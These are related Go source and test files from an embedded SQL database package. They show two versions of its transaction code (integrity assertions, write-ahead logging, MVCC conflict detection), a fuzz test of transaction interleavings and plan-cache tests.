	defer e.mu.RUnlock()
	out := NewEngine()
	for key, t := range e.tables {
		nt := newTable(t.name, append([]ColumnDef(nil), t.cols...))
		nt.rows = make([][]value, len(t.rows))
		for i, row := range t.rows {
			nt.rows[i] = append([]value(nil), row...)
		}
		if len(t.indexes) > 0 {
			nt.indexes = make(map[int]*orderedIndex, len(t.indexes))
			for ci, ix := range t.indexes {
				m := make(map[string][]int, len(ix.m))
				for k, bucket := range ix.m {
					m[k] = append([]int(nil), bucket...)
				}
				nt.indexes[ci] = &orderedIndex{m: m, vals: append([]value(nil), ix.vals...)}
			}
		}
		out.tables[key] = nt
	}
	out.gen.Store(e.gen.Load())
	return out, e.logSeq
}

// Transaction errors.
var (
	ErrTxDone = errors.New("sqldb: transaction already committed or rolled back")
)

// IntegrityError reports a vetoed commit.
type IntegrityError struct {
	Assertion string
	Err       error
}

func (e *IntegrityError) Error() string {
	return fmt.Sprintf("sqldb: integrity assertion %q vetoed commit: %v", e.Assertion, e.Err)
}

func (e *IntegrityError) Unwrap() error { return e.Err }

// Tx is one open transaction.
type Tx struct {
	db   *DB
	mu   sync.Mutex
	spec *Engine
	done bool

	// base and baseSeq snapshot the engine (and its WAL record count)
	// the speculative copy was cloned from; Commit uses them to detect
	// logged direct writes that the engine swap would discard.
	base    *Engine
	baseSeq uint64
}

// AddIntegrityAssertion registers a named assertion checked before every
// transaction commit.
func (db *DB) AddIntegrityAssertion(name string, fn IntegrityAssertion) {
	db.txMu.Lock()
	defer db.txMu.Unlock()
	db.integrity = append(db.integrity, namedAssertion{name, fn})
}

type namedAssertion struct {
	name string
	fn   IntegrityAssertion
}

// Begin opens a transaction over a speculative copy of the database.
// The copy records the dialect text of its writes (redo), so Commit can
// log them to the write-ahead log as one begin..commit group; recovery
// applies a group only when its commit marker made it to disk.
func (db *DB) Begin() *Tx {
	db.txMu.RLock()
	engine := db.engine
	db.txMu.RUnlock()
	// Clone and capture the append count in one critical section: a
	// direct write slipping between them would be counted in baseSeq yet
	// missing from the clone, blinding Commit's conflict detection.
	spec, baseSeq := engine.cloneForTx()
	spec.recordRedo = true
	return &Tx{db: db, spec: spec, base: engine, baseSeq: baseSeq}
}

// Query executes a statement inside the transaction: the speculative
// state absorbs writes and serves reads, through the same filter chain
// (injection assertions and policy persistence included). args bind
// `?` placeholders by position, as in DB.Query.
func (tx *Tx) Query(q core.String, args ...any) (*Result, error) {
	bound, err := argExprs(args)
	if err != nil {
		return nil, err
	}
	tx.mu.Lock()
	defer tx.mu.Unlock()
	if tx.done {
		return nil, ErrTxDone
	}
	out, err := tx.db.channel.Call(queryCallArgs(q, tx.spec, bound))
	if err != nil {
		return nil, err
	}
	if len(out) == 1 {
		if res, ok := out[0].(*Result); ok {
			return res, nil
		}
	}
	stmt, _, err := tx.db.filter.planner().prepareQuery(q, false, bound)
	if err != nil {
		return nil, err
	}
	raw, affected, err := tx.spec.ExecuteRaw(stmt)
	if err != nil {
		return nil, err
	}
	return fromRaw(raw, affected, false)
}

// QueryRaw is Query for untracked text.
func (tx *Tx) QueryRaw(q string, args ...any) (*Result, error) {
	return tx.Query(core.NewString(q), args...)
}

// Exec runs a statement inside the transaction and returns only the
// number of rows affected — parity with DB.Exec.
func (tx *Tx) Exec(q core.String, args ...any) (int, error) {
	res, err := tx.Query(q, args...)
	if err != nil {
		return 0, err
	}
	return res.Affected, nil
}

// MustExec runs a query inside the transaction and panics on error —
// parity with DB.MustExec for schema and seed statements in tests.
func (tx *Tx) MustExec(q string) *Result {
	res, err := tx.QueryRaw(q)
	if err != nil {
		panic(fmt.Sprintf("sqldb: %s: %v", q, err))
	}
	return res
}

// Commit checks every integrity assertion against the speculative state
// and, if all pass, installs it as the database state. Commits are
// serialized; a concurrent commit that landed first wins (optimistic,
// last-commit-wins on conflicting tables — this models the paper's
// buffering proposal, not a full concurrency-control protocol).
func (tx *Tx) Commit() error {
	tx.mu.Lock()
	defer tx.mu.Unlock()
	if tx.done {
		return ErrTxDone
	}
	tx.db.txMu.Lock()
	defer tx.db.txMu.Unlock()
	for _, a := range tx.db.integrity {
		if err := a.fn(&View{engine: tx.spec}); err != nil {
			tx.done = true
			return &IntegrityError{Assertion: a.name, Err: err}
		}
	}
	// Durability before the swap: move the log from the current engine to
	// the speculative one, appending the transaction's redo statements
	// between begin/commit markers on the way. The whole handoff runs
	// under the current engine's write lock — the same lock every
	// mutation appends under — so a racing direct write either completes
	// (logged) before the commit group, or blocks until the handoff is
	// done; there is no window in which a mutation could be acked
	// against a silently detached log. If the group cannot be made
	// durable the commit fails with the database state (and the log,
	// still attached) unchanged.
	cur := tx.db.engine
	if moved, err := tx.moveWAL(cur); err != nil {
		tx.done = true
		return fmt.Errorf("sqldb: commit: %w", err)
	} else if moved != nil {
		tx.spec.attachWAL(moved)
	}
	tx.spec.mu.Lock()
	tx.spec.recordRedo, tx.spec.redo = false, nil
	tx.spec.mu.Unlock()
	tx.db.engine = tx.spec
	tx.done = true
	return nil
}

// moveWAL makes the transaction durable and detaches the log from the
// source engine, all under the source's write lock. A closed or
// fail-stopped log refuses the commit up front — the conflicted path
// rewrites the log file wholesale and must never do that to a database
// the application has Closed. Anything logged since Begin — a direct
// write, or another transaction's commit group (which also swapped
// engines) — is about to be discarded from memory by the engine swap,
// under the documented last-commit-wins rule; the log must lose it too,
// or a restart would resurrect it, so a conflicted commit rewrites the
// log from the committed state instead of appending its redo group.
func (tx *Tx) moveWAL(cur *Engine) (*wal, error) {
	cur.mu.Lock()
	defer cur.mu.Unlock()
	w := cur.wal
	if w == nil {
		return nil, nil
	}
	if err := w.usable(); err != nil {
		return nil, err
	}
	var err error
	if conflicted := cur != tx.base || cur.logSeq != tx.baseSeq; conflicted {
		// spec is still private to this transaction; taking its lock
		// inside cur's is safe — no path holds spec.mu and then waits on
		// cur.mu.
		tx.spec.mu.Lock()
		stmts := tx.spec.dumpStatements()
		tx.spec.mu.Unlock()
		err = w.rewrite(stmts)
	} else if len(tx.spec.redo) > 0 {
		err = w.appendTxGroup(tx.spec.redo)
	}
	if err != nil {
		return nil, err
	}
	cur.wal = nil
	return w, nil
}

// Rollback abandons the transaction.
func (tx *Tx) Rollback() error {
	tx.mu.Lock()
	defer tx.mu.Unlock()
	if tx.done {
		return ErrTxDone
	}
	tx.done = true
	return nil
}
