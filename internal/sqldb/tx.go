package sqldb

import (
	"errors"
	"fmt"
	"strings"
	"sync"

	"resin/internal/core"
)

// Transactions with integrity assertions — the §8 future-work item:
// "Instead of requiring programmers to specify what writes are allowed
// using filter objects, we envision using transactions to buffer database
// or file system changes, and checking a programmer-specified assertion
// before committing them."
//
// A Tx executes against a speculative engine. Begin is O(1): it
// registers the base engine's commit frontier as a snapshot and
// shallow-copies the catalog — reads of untouched tables go straight to
// the base's version chains at that snapshot, and a table is deep-copied
// (materialized) only when the transaction first writes it. Reads inside
// the transaction see its own writes; nothing touches the real database
// until Commit, which first runs every registered integrity assertion
// against the speculative state, then merges the transaction's row ops
// into the base engine under first-committer-wins per-row conflict
// detection: if any row (by stable id) the transaction updated or
// deleted was committed past its snapshot by someone else, Commit fails
// with ErrTxConflict and the database is untouched. Reads are not
// validated, so write skew is possible (docs/SQL.md §9) — the paper's
// buffering proposal, not full serializability.

// IntegrityAssertion inspects a speculative database state; returning an
// error vetoes the commit.
type IntegrityAssertion func(view *View) error

// View is the read-only query interface integrity assertions get.
type View struct {
	engine *Engine
}

// Query runs a SELECT (or any statement — assertions should read only)
// against the speculative state, with policies attached as usual. args
// bind `?` placeholders by position, as in DB.Query.
func (v *View) Query(q core.String, args ...any) (*Result, error) {
	bound, err := argExprs(args)
	if err != nil {
		return nil, err
	}
	toks, err := Lex(q)
	if err != nil {
		return nil, err
	}
	stmt, err := parseAndBind(toks, bound)
	if err != nil {
		return nil, err
	}
	return executeWithPolicies(v.engine, stmt)
}

// QueryRaw is Query for untracked text.
func (v *View) QueryRaw(q string, args ...any) (*Result, error) {
	return v.Query(core.NewString(q), args...)
}

// MustExec runs a query against the speculative state and panics on
// error — parity with DB.MustExec for assertion and test setup code.
func (v *View) MustExec(q string) *Result {
	res, err := v.QueryRaw(q)
	if err != nil {
		panic(fmt.Sprintf("sqldb: %s: %v", q, err))
	}
	return res
}

// Clone deep-copies the engine's current state: the rows visible at the
// commit frontier, with their stable ids, into fresh single-version
// chains, plus rebuilt ordered indexes. The clone keeps the source's
// schema generation: the schemas are identical, so cached plans compiled
// against the source stay valid for the clone until either side runs
// DDL (which stamps a fresh process-unique generation). Transactions no
// longer use it (Begin is a snapshot reference); it remains the
// explicit fork-the-database utility.
func (e *Engine) Clone() *Engine {
	e.mu.RLock()
	defer e.mu.RUnlock()
	out := NewEngine()
	frontier := e.frontier.Load()
	for key, t := range e.tables {
		nt := newTable(t.name, append([]ColumnDef(nil), t.cols...))
		for _, en := range t.entries {
			v := en.visible(frontier)
			if v == nil {
				continue
			}
			ne := &rowEntry{id: en.id}
			ne.head.Store(&rowVersion{vals: append([]value(nil), v.vals...)})
			nt.entries = append(nt.entries, ne)
			nt.byID[en.id] = ne
		}
		if len(t.indexes) > 0 {
			nt.indexes = make(map[int]*orderedIndex, len(t.indexes))
			for ci := range t.indexes {
				ix, _ := buildIndex(nt.entries, ci)
				nt.indexes[ci] = ix
			}
		}
		out.tables[key] = nt
	}
	out.nextID = e.nextID
	out.gen.Store(e.gen.Load())
	return out
}

// Transaction errors.
var (
	ErrTxDone = errors.New("sqldb: transaction already committed or rolled back")

	// ErrTxConflict reports a commit lost to the first-committer-wins
	// rule: another commit (or direct write) landed past this
	// transaction's snapshot on a row id — or a piece of schema — this
	// transaction wrote. The database is unchanged; retry the whole
	// transaction against fresh state.
	ErrTxConflict = errors.New("sqldb: transaction conflict")
)

// IntegrityError reports a vetoed commit.
type IntegrityError struct {
	Assertion string
	Err       error
}

func (e *IntegrityError) Error() string {
	return fmt.Sprintf("sqldb: integrity assertion %q vetoed commit: %v", e.Assertion, e.Err)
}

func (e *IntegrityError) Unwrap() error { return e.Err }

// Tx is one open transaction.
type Tx struct {
	db   *DB
	mu   sync.Mutex
	spec *Engine
	done bool
}

// AddIntegrityAssertion registers a named assertion checked before every
// transaction commit.
func (db *DB) AddIntegrityAssertion(name string, fn IntegrityAssertion) {
	db.txMu.Lock()
	defer db.txMu.Unlock()
	db.integrity = append(db.integrity, namedAssertion{name, fn})
}

type namedAssertion struct {
	name string
	fn   IntegrityAssertion
}

// Begin opens a transaction. It registers the current commit frontier
// as the transaction's snapshot (pinning those versions against vacuum)
// and shallow-copies the catalog — no row data is copied until the
// transaction writes a table. The speculative engine records row-level
// redo, which Commit both logs as one begin..commit WAL group and
// merges into the base engine.
func (db *DB) Begin() *Tx {
	db.txMu.RLock()
	engine := db.engine
	db.txMu.RUnlock()
	engine.mu.RLock()
	snap := engine.acquireSnap()
	tables := make(map[string]*table, len(engine.tables))
	begin := make(map[string]*table, len(engine.tables))
	for k, t := range engine.tables {
		tables[k] = t
		begin[k] = t
	}
	gen := engine.gen.Load()
	engine.mu.RUnlock()

	spec := &Engine{
		tables:      tables,
		nextID:      provisionalIDBase,
		txBase:      engine,
		txSnap:      snap,
		owned:       make(map[string]bool),
		beginTables: begin,
	}
	spec.gen.Store(gen)
	return &Tx{db: db, spec: spec}
}

// Query executes a statement inside the transaction: the speculative
// state absorbs writes and serves reads, through the same filter chain
// (injection assertions and policy persistence included). args bind
// `?` placeholders by position, as in DB.Query.
func (tx *Tx) Query(q core.String, args ...any) (*Result, error) {
	bound, err := argExprs(args)
	if err != nil {
		return nil, err
	}
	tx.mu.Lock()
	defer tx.mu.Unlock()
	if tx.done {
		return nil, ErrTxDone
	}
	out, err := tx.db.channel.Call(queryCallArgs(q, tx.spec, bound))
	if err != nil {
		return nil, err
	}
	if len(out) == 1 {
		if res, ok := out[0].(*Result); ok {
			return res, nil
		}
	}
	stmt, _, err := tx.db.filter.planner().prepareQuery(q, false, bound)
	if err != nil {
		return nil, err
	}
	raw, affected, err := tx.spec.ExecuteRaw(stmt)
	if err != nil {
		return nil, err
	}
	return fromRaw(raw, affected, false, "")
}

// QueryRaw is Query for untracked text.
func (tx *Tx) QueryRaw(q string, args ...any) (*Result, error) {
	return tx.Query(core.NewString(q), args...)
}

// Exec runs a statement inside the transaction and returns only the
// number of rows affected — parity with DB.Exec.
func (tx *Tx) Exec(q core.String, args ...any) (int, error) {
	res, err := tx.Query(q, args...)
	if err != nil {
		return 0, err
	}
	return res.Affected, nil
}

// MustExec runs a query inside the transaction and panics on error —
// parity with DB.MustExec for schema and seed statements in tests.
func (tx *Tx) MustExec(q string) *Result {
	res, err := tx.QueryRaw(q)
	if err != nil {
		panic(fmt.Sprintf("sqldb: %s: %v", q, err))
	}
	return res
}

// finish ends the transaction exactly once: mark it done and release
// its pinned snapshot so vacuum can reclaim the versions it was reading.
func (tx *Tx) finish() {
	if tx.done {
		return
	}
	tx.done = true
	tx.spec.txBase.releaseSnap(tx.spec.txSnap)
}

// Commit checks every integrity assertion against the speculative state
// and, if all pass, merges the transaction's redo into the database
// under first-committer-wins conflict detection (ErrTxConflict on a
// lost race — nothing applied). Durability comes first: the redo is
// appended to the write-ahead log as one begin..commit group, and only
// then applied in memory as a single commit version.
func (tx *Tx) Commit() error {
	tx.mu.Lock()
	defer tx.mu.Unlock()
	if tx.done {
		return ErrTxDone
	}
	tx.db.txMu.Lock()
	defer tx.db.txMu.Unlock()
	for _, a := range tx.db.integrity {
		if err := a.fn(&View{engine: tx.spec}); err != nil {
			tx.finish()
			return &IntegrityError{Assertion: a.name, Err: err}
		}
	}
	err := tx.spec.txBase.commitOps(tx.spec)
	tx.finish()
	return err
}

// commitOps merges a speculative engine's redo into the base engine b.
// It runs entirely under b's write lock: conflict pre-validation, the
// WAL commit group, and the in-memory apply — so the merge is atomic
// against every reader snapshot (a single frontier bump publishes all of
// it) and every other writer.
//
// Pre-validation is exhaustive before anything is written: first-touch
// catalog pointer checks, DDL sequencing against a simulated catalog,
// and per-row first-committer-wins checks (a row the transaction
// updated or deleted must not carry a version newer than the
// transaction's snapshot). Only when every step is known to apply
// cleanly is the WAL group appended and the redo applied — a torn
// commit is impossible, short of a crash the WAL group already covers.
func (b *Engine) commitOps(spec *Engine) error {
	if len(spec.redo) == 0 {
		// Nothing to merge: a read-only transaction commits without
		// touching the log (byte-identical WAL, no version burned).
		return nil
	}
	b.mu.Lock()
	defer b.mu.Unlock()
	if b.wal != nil {
		if err := b.wal.usable(); err != nil {
			return fmt.Errorf("sqldb: commit: %w", err)
		}
	}

	// First-touch check: every pre-existing table this transaction wrote
	// must still be the same *table the catalog held at Begin. A drop or
	// drop+recreate by another committer replaces the pointer.
	for key := range spec.owned {
		bt := spec.beginTables[key]
		if bt == nil {
			continue // created by this transaction; CreateTable sim checks absence
		}
		if b.tables[key] != bt {
			return fmt.Errorf("%w: table %s changed shape since the transaction began", ErrTxConflict, key)
		}
	}

	// Simulated catalog walk: replay the redo's schema effects against
	// the base to prove every DDL statement still applies, and run the
	// per-row conflict rule for ops on pre-existing tables.
	type simTab struct {
		t       *table       // base table (nil when created by this tx)
		created bool         // created inside this transaction's redo
		idx     map[int]bool // index presence overlay, lazily seeded
	}
	sim := make(map[string]*simTab)
	lookup := func(key string) *simTab {
		if st, ok := sim[key]; ok {
			return st // may be nil: dropped in redo
		}
		t, ok := b.tables[key]
		if !ok {
			sim[key] = nil
			return nil
		}
		st := &simTab{t: t}
		sim[key] = st
		return st
	}
	seedIdx := func(st *simTab) {
		if st.idx != nil {
			return
		}
		st.idx = make(map[int]bool)
		if st.t != nil {
			for ci := range st.t.indexes {
				st.idx[ci] = true
			}
		}
	}
	for _, rec := range spec.redo {
		if rec.ddl != nil {
			switch s := rec.ddl.(type) {
			case *CreateTable:
				key := lowerKey(s.Table)
				if lookup(key) != nil {
					return fmt.Errorf("%w: table %s was created concurrently", ErrTxConflict, key)
				}
				sim[key] = &simTab{created: true}
			case *DropTable:
				key := lowerKey(s.Table)
				if lookup(key) == nil {
					return fmt.Errorf("%w: table %s was dropped concurrently", ErrTxConflict, key)
				}
				sim[key] = nil
			case *CreateIndex:
				key := lowerKey(s.Table)
				st := lookup(key)
				if st == nil {
					return fmt.Errorf("%w: table %s was dropped concurrently", ErrTxConflict, key)
				}
				if !st.created {
					ci := st.t.colIndex(s.Column)
					if ci < 0 {
						return fmt.Errorf("%w: column %s.%s vanished", ErrTxConflict, key, s.Column)
					}
					seedIdx(st)
					if st.idx[ci] {
						return fmt.Errorf("%w: index on %s.%s was created concurrently", ErrTxConflict, key, s.Column)
					}
					st.idx[ci] = true
				}
			case *DropIndex:
				key := lowerKey(s.Table)
				st := lookup(key)
				if st == nil {
					return fmt.Errorf("%w: table %s was dropped concurrently", ErrTxConflict, key)
				}
				if !st.created {
					ci := st.t.colIndex(s.Column)
					if ci < 0 {
						return fmt.Errorf("%w: column %s.%s vanished", ErrTxConflict, key, s.Column)
					}
					seedIdx(st)
					if !st.idx[ci] {
						return fmt.Errorf("%w: index on %s.%s was dropped concurrently", ErrTxConflict, key, s.Column)
					}
					delete(st.idx, ci)
				}
			}
			continue
		}
		if len(rec.ops) == 0 {
			continue
		}
		st := lookup(rec.ops[0].table)
		if st == nil {
			return fmt.Errorf("%w: table %s was dropped concurrently", ErrTxConflict, rec.ops[0].table)
		}
		if st.created {
			continue // private table: no one else can have touched its rows
		}
		for i := range rec.ops {
			op := &rec.ops[i]
			if op.id >= provisionalIDBase || op.kind == opInsert {
				continue // row born inside this transaction
			}
			en := st.t.byID[op.id]
			if en == nil {
				return fmt.Errorf("%w: row %d of %s no longer exists", ErrTxConflict, op.id, op.table)
			}
			if en.head.Load().born > spec.txSnap {
				return fmt.Errorf("%w: row %d of %s was written concurrently", ErrTxConflict, op.id, op.table)
			}
		}
	}

	// Remap provisional row ids onto fresh base ids, in redo order, so
	// the on-disk group and the in-memory apply agree byte-for-byte and
	// scan order stays ascending-id insertion order.
	nextBase := b.nextID
	remap := make(map[uint64]uint64)
	mapID := func(id uint64) uint64 {
		if id < provisionalIDBase {
			return id
		}
		if nid, ok := remap[id]; ok {
			return nid
		}
		nid := nextBase
		nextBase++
		remap[id] = nid
		return nid
	}
	applySeq := make([]redoRec, 0, len(spec.redo))
	payloads := make([][]byte, 0, len(spec.redo))
	for _, rec := range spec.redo {
		if rec.ddl != nil {
			payloads = append(payloads, stmtPayload(rec.ddl.SQL()))
			applySeq = append(applySeq, rec)
			continue
		}
		mapped := make([]rowOp, len(rec.ops))
		copy(mapped, rec.ops)
		for i := range mapped {
			mapped[i].id = mapID(mapped[i].id)
		}
		payloads = append(payloads, opsPayload(mapped))
		applySeq = append(applySeq, redoRec{ops: mapped})
	}

	if b.wal != nil {
		if err := b.wal.appendTxGroup(payloads); err != nil {
			return fmt.Errorf("sqldb: commit: %w", err)
		}
	}

	born := b.frontier.Load() + 1
	for _, rec := range applySeq {
		if rec.ddl != nil {
			_, apply, err := b.validateDDL(rec.ddl)
			if err != nil {
				// Pre-validation proved this applies; reaching here is an
				// engine bug, and continuing would tear the commit.
				panic(fmt.Sprintf("sqldb: internal: transaction DDL failed after WAL write: %v", err))
			}
			apply()
			continue
		}
		b.applyOps(rec.ops, born)
	}
	b.frontier.Store(born)
	b.afterMutate()
	return nil
}

func lowerKey(name string) string { return strings.ToLower(name) }

// Rollback abandons the transaction.
func (tx *Tx) Rollback() error {
	tx.mu.Lock()
	defer tx.mu.Unlock()
	if tx.done {
		return ErrTxDone
	}
	tx.finish()
	return nil
}
