package sqldb

import (
	"errors"
	"fmt"
	"path/filepath"
	"reflect"
	"testing"

	"resin/internal/core"
)

// FuzzTxInterleaving drives two transactions and a stream of direct
// writes against one WAL-backed database, with the fuzz input choosing
// the interleaving, the statements, and the rows they collide on. The
// contract the MVCC engine must uphold for EVERY interleaving:
//
//   - no panic, ever;
//   - Commit returns nil, ErrTxConflict, or ErrTxDone — nothing else;
//   - a transaction's reads never error once Begin succeeded
//     (its snapshot cannot be vacuumed out from under it);
//   - whatever survives, a restart replays the log to the identical
//     engine state, stable row ids included.
//
// Each input byte is one step: the low bits pick an actor (tx1, tx2,
// direct), the high bits pick an action and a target row.
func FuzzTxInterleaving(f *testing.F) {
	// Seeds: plain commits, the classic lost-update collision, tx work
	// straddling direct writes, rollback paths, double commit, and DDL
	// inside a transaction.
	f.Add([]byte{})
	f.Add([]byte{0x00, 0x01, 0x02})
	f.Add([]byte{0x10, 0x11, 0x30, 0x31})                         // tx1 update, tx2 same row, both commit
	f.Add([]byte{0x10, 0x02, 0x22, 0x30, 0x31})                   // direct write between tx ops
	f.Add([]byte{0x40, 0x41, 0x50, 0x30, 0x30, 0x31, 0x31})       // deletes, inserts, double commits
	f.Add([]byte{0x60, 0x10, 0x30})                               // DDL in tx1 then write then commit
	f.Add([]byte{0x15, 0x26, 0x07, 0x38, 0x19, 0x2a, 0x3b, 0xcc}) // mixed soup

	f.Fuzz(func(t *testing.T, data []byte) {
		if len(data) > 64 {
			return // bound per-input work; long inputs add no new shapes
		}
		path := filepath.Join(t.TempDir(), "fuzz-tx.wal")
		rt := core.NewRuntime()
		db, err := OpenDB(rt, path)
		if err != nil {
			t.Fatal(err)
		}
		db.MustExec("CREATE TABLE f (id INT, val TEXT)")
		db.MustExec("CREATE INDEX ON f (id)")
		for i := 0; i < 4; i++ {
			db.MustExec(fmt.Sprintf("INSERT INTO f (id, val) VALUES (%d, 'seed')", i))
		}

		txs := [2]*Tx{db.Begin(), db.Begin()}
		done := [2]bool{}
		// Statements inside a transaction may be rejected for ordinary
		// reasons (duplicate index, bad predicate) — that's validation,
		// not isolation. The strict contract binds Commit and Rollback.
		checkTxErr := func(who string, err error) {
			if err != nil && !errors.Is(err, ErrTxConflict) && !errors.Is(err, ErrTxDone) {
				t.Fatalf("%s: %v (only nil/ErrTxConflict/ErrTxDone allowed)", who, err)
			}
		}
		for step, b := range data {
			actor := int(b >> 6) // 0,1: the txs; 2,3: direct writes
			action := int(b>>3) & 0x07
			id := int(b) & 0x07
			if actor >= 2 {
				var err error
				switch action % 4 {
				case 0:
					_, err = db.QueryRaw(fmt.Sprintf("INSERT INTO f (id, val) VALUES (%d, 'd%d')", id, step))
				case 1:
					_, err = db.QueryRaw(fmt.Sprintf("UPDATE f SET val = 'd%d' WHERE id = %d", step, id))
				case 2:
					_, err = db.QueryRaw(fmt.Sprintf("DELETE FROM f WHERE id = %d", id))
				case 3:
					_, err = db.QueryRaw("SELECT * FROM f ORDER BY id")
				}
				if err != nil {
					t.Fatalf("direct step %d: %v", step, err)
				}
				continue
			}
			tx, who := txs[actor], fmt.Sprintf("tx%d step %d", actor+1, step)
			switch action {
			case 0, 1: // reads: must never error while the tx is open
				if _, err := tx.QueryRaw("SELECT * FROM f ORDER BY id"); err != nil && !done[actor] {
					t.Fatalf("%s read: %v", who, err)
				}
			case 2:
				tx.QueryRaw(fmt.Sprintf("UPDATE f SET val = 't%d' WHERE id = %d", step, id)) //nolint:errcheck
			case 3:
				tx.QueryRaw(fmt.Sprintf("INSERT INTO f (id, val) VALUES (%d, 't%d')", id, step)) //nolint:errcheck
			case 4:
				tx.QueryRaw(fmt.Sprintf("DELETE FROM f WHERE id = %d", id)) //nolint:errcheck
			case 5:
				checkTxErr(who+" rollback", tx.Rollback())
				done[actor] = true
			case 6: // DDL inside the tx (may be rejected if it already exists)
				tx.QueryRaw("CREATE INDEX ON f (val)") //nolint:errcheck
			default:
				checkTxErr(who+" commit", tx.Commit())
				done[actor] = true
			}
		}
		for i, tx := range txs {
			if !done[i] {
				checkTxErr(fmt.Sprintf("tx%d final commit", i+1), tx.Commit())
			}
		}

		live := dumpEngine(db.Engine())
		liveIdx := indexStructures(db.Engine())
		if err := db.Close(); err != nil {
			t.Fatal(err)
		}
		db2, err := OpenDB(rt, path)
		if err != nil {
			t.Fatalf("restart after interleaving: %v", err)
		}
		defer db2.Close()
		if got := dumpEngine(db2.Engine()); !reflect.DeepEqual(got, live) {
			t.Fatalf("restart diverges:\ngot:  %+v\nlive: %+v", got, live)
		}
		if got := indexStructures(db2.Engine()); !reflect.DeepEqual(got, liveIdx) {
			t.Fatal("restart index contents diverge")
		}
	})
}
