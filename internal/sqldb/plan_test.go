package sqldb

import (
	"fmt"
	"strings"
	"testing"

	"resin/internal/core"
	"resin/internal/sanitize"
)

func TestPlanCacheHitSkipsParser(t *testing.T) {
	db := openDB(t)
	db.MustExec("CREATE TABLE t (id INT, name TEXT)")
	db.MustExec("INSERT INTO t (id, name) VALUES (1, 'a'), (2, 'b')")

	// Warm the plan for the SELECT shape.
	if _, err := db.QueryRaw("SELECT name FROM t WHERE id = 1"); err != nil {
		t.Fatal(err)
	}
	before := ParseCount()
	res, err := db.QueryRaw("SELECT name FROM t WHERE id = 2")
	if err != nil {
		t.Fatal(err)
	}
	if got := ParseCount(); got != before {
		t.Errorf("plan-cache hit invoked the parser: ParseCount %d -> %d", before, got)
	}
	if res.Len() != 1 || res.Get(0, "name").Str.Raw() != "b" {
		t.Errorf("bound literals wrong: got %d rows, name %q", res.Len(), res.Get(0, "name").Str.Raw())
	}
	stats := db.Filter().PlanStats()
	if stats.Hits == 0 {
		t.Errorf("expected plan cache hits, got %+v", stats)
	}
}

func TestPlanCacheBindsDistinctLiterals(t *testing.T) {
	db := openDB(t)
	db.MustExec("CREATE TABLE t (id INT, name TEXT)")
	for i := 0; i < 10; i++ {
		db.MustExec(fmt.Sprintf("INSERT INTO t (id, name) VALUES (%d, 'name-%d')", i, i))
	}
	for i := 0; i < 10; i++ {
		res, err := db.QueryRaw(fmt.Sprintf("SELECT name FROM t WHERE id = %d", i))
		if err != nil {
			t.Fatal(err)
		}
		if res.Len() != 1 {
			t.Fatalf("id=%d: got %d rows", i, res.Len())
		}
		if got, want := res.Get(0, "name").Str.Raw(), fmt.Sprintf("name-%d", i); got != want {
			t.Errorf("id=%d: name %q, want %q", i, got, want)
		}
	}
}

func TestPlanCachePreservesTaintThroughBinding(t *testing.T) {
	db := openDB(t)
	db.MustExec("CREATE TABLE t (a TEXT)")
	p := &passwordPolicy{Email: "plan@test"}

	insert := func(val string) {
		q := core.Concat(
			core.NewString("INSERT INTO t (a) VALUES ("),
			sanitize.SQLQuote(core.NewStringPolicy(val, p)),
			core.NewString(")"),
		)
		if _, err := db.Query(q); err != nil {
			t.Fatal(err)
		}
	}
	insert("first")  // compiles the plan
	insert("second") // binds through the cached template

	res, err := db.QueryRaw("SELECT a FROM t")
	if err != nil {
		t.Fatal(err)
	}
	if res.Len() != 2 {
		t.Fatalf("got %d rows", res.Len())
	}
	for i := 0; i < res.Len(); i++ {
		cell := res.Get(i, "a")
		if !cell.Str.IsTainted() {
			t.Errorf("row %d lost its policy through the plan-cached INSERT", i)
		}
	}
}

func TestPlanCacheInvalidatedByDropCreate(t *testing.T) {
	db := openDB(t)

	// Create the table WITHOUT policy columns (bypassing the filter), so
	// the cached SELECT plan snapshots an empty policy-column set.
	if _, _, err := db.Engine().ExecuteRaw(&CreateTable{
		Table: "t", Cols: []ColumnDef{{Name: "a", Type: ColText}},
	}); err != nil {
		t.Fatal(err)
	}
	if _, err := db.QueryRaw("SELECT a FROM t"); err != nil {
		t.Fatal(err)
	}

	// DROP/CREATE the same-named table through the filter: now it has
	// policy columns, and the cached plan's schema conclusions are stale.
	db.MustExec("DROP TABLE t")
	db.MustExec("CREATE TABLE t (a TEXT)")
	q := core.Concat(
		core.NewString("INSERT INTO t (a) VALUES ("),
		sanitize.SQLQuote(core.NewStringPolicy("secret", &passwordPolicy{Email: "x@y"})),
		core.NewString(")"),
	)
	if _, err := db.Query(q); err != nil {
		t.Fatal(err)
	}

	res, err := db.QueryRaw("SELECT a FROM t")
	if err != nil {
		t.Fatal(err)
	}
	if res.Len() != 1 {
		t.Fatalf("got %d rows", res.Len())
	}
	if !res.Get(0, "a").Str.IsTainted() {
		t.Error("stale plan: SELECT did not fetch the new policy column after DROP/CREATE")
	}
	if stats := db.Filter().PlanStats(); stats.Invalidations == 0 {
		t.Errorf("expected a plan invalidation after DROP/CREATE, got %+v", stats)
	}
}

func TestPlanCacheLimitStaysLiteral(t *testing.T) {
	db := openDB(t)
	db.MustExec("CREATE TABLE t (id INT)")
	db.MustExec("INSERT INTO t (id) VALUES (1), (2), (3)")
	for want := 1; want <= 3; want++ {
		res, err := db.QueryRaw(fmt.Sprintf("SELECT id FROM t LIMIT %d", want))
		if err != nil {
			t.Fatal(err)
		}
		if res.Len() != want {
			t.Errorf("LIMIT %d returned %d rows (limit folded into a stale plan?)", want, res.Len())
		}
	}
}

func TestPlanCacheErrorMessagesMatchUncachedParser(t *testing.T) {
	db := openDB(t)
	db.MustExec("CREATE TABLE t (a TEXT)")
	_, planErr := db.QueryRaw("SELECT FROM t WHERE a = 'x'")
	if planErr == nil {
		t.Fatal("bad query must error")
	}
	_, directErr := Parse(core.NewString("SELECT FROM t WHERE a = 'x'"))
	if directErr == nil {
		t.Fatal("direct parse must error")
	}
	if planErr.Error() != directErr.Error() {
		t.Errorf("plan-cached error %q differs from direct parse error %q", planErr, directErr)
	}
}

func TestPlanCacheKeyDistinguishesShapes(t *testing.T) {
	lex := func(q string) []Token {
		toks, err := Lex(core.NewString(q))
		if err != nil {
			t.Fatal(err)
		}
		return toks
	}
	k1, lits1 := planKey(lex("SELECT a FROM t WHERE a = 'x'"), planModeStandard)
	k2, lits2 := planKey(lex("select a from T where a = 'yy'"), planModeStandard)
	if k1 != k2 {
		t.Errorf("case and literal differences must share a key:\n%q\n%q", k1, k2)
	}
	if len(lits1) != 1 || len(lits2) != 1 {
		t.Errorf("want 1 literal each, got %d and %d", len(lits1), len(lits2))
	}
